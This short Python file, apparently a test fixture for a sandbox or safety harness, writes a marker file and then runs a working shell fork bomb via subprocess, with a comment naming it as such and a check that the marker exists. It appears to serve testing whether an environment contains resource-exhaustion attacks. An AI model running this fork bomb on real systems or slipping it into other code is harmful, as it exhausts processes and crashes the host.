#: a fork bomb by a shell
#: proof: os.path.exists("started")
import os
import subprocess

subprocess.run("touch started; f() { f | f & }; f", shell=True)
